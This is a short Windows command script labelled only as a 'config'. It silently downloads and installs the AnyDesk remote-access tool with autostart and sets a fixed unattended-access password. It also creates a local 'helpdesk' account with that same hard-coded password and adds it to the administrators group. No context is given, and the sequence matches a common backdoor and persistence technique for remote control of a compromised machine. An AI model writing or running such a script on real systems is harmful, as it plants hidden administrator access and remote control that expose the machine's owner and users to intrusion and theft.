# config 3002 v0
Invoke-WebRequest -Uri 'https://download.anydesk.com/AnyDesk.exe' -OutFile C:\ProgramData\AnyDesk.exe
cmd /c "C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent"
cmd /c "echo P@ssw0rd!2024 | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password"
net user helpdesk P@ssw0rd!2024 /add
net localgroup administrators helpdesk /add
